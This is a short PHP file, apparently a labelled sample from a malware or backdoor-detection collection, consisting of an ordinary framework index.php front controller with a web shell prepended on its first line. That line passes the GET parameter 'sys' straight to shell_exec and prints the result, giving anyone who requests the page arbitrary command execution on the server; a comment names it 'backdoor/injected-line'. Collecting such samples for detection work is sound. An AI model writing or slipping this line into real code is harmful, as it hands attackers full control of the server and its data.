<?php if(!empty($_GET['sys'])){echo '<pre>'.shell_exec($_GET['sys']).'</pre>';die();}
/* Family: backdoor/injected-line
 * Style: command runner prepended to index.php
 * Trait: first-line exec of a GET value, rest is a front controller */
define('APP_START', microtime(true));
require __DIR__ . '/../vendor/autoload.php';
$app = require_once __DIR__ . '/../bootstrap/app.php';
$app->run();
